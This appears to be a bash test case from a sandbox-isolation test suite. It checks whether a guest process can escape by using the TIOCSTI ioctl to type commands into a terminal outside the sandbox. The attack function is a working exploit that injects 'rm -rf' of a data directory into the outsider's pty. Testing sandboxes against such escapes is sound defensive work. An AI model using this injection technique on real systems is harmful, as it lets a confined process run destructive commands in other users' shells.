# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2317,SC2154,SC2016
# tries: TIOCSTI: keys typed into the terminal of an outsider's shell
# class: brokers
# where: guest
# needs: python3

# shellcheck source=guest.sh
. "${BASH_SOURCE[0]%/*}/guest.sh"

prepare() {
	"$TOOLS/files" make "$DATA" 300
	outside python3 -c 'import pty
pty.spawn(["bash", "--norc", "-c", "tty; read -r command; eval \"$command\"; sleep 1000"])'
	for _ in {1..100}; do
		! grep -qs /dev/pts outside.out || break
		sleep 0.1
	done
}

attack() {
	python3 - "$(grep -ao '/dev/pts/[0-9]*' outside.out)" <<-'END'
		import fcntl, os, sys
		tty = os.open(sys.argv[1], os.O_RDONLY | os.O_NOCTTY)
		for key in f"rm -rf {os.environ['DATA']}\n":
		    fcntl.ioctl(tty, 0x5412, key.encode())
	END
}

damage() {
	asked_damage
}

restore() {
	end_outsiders
}
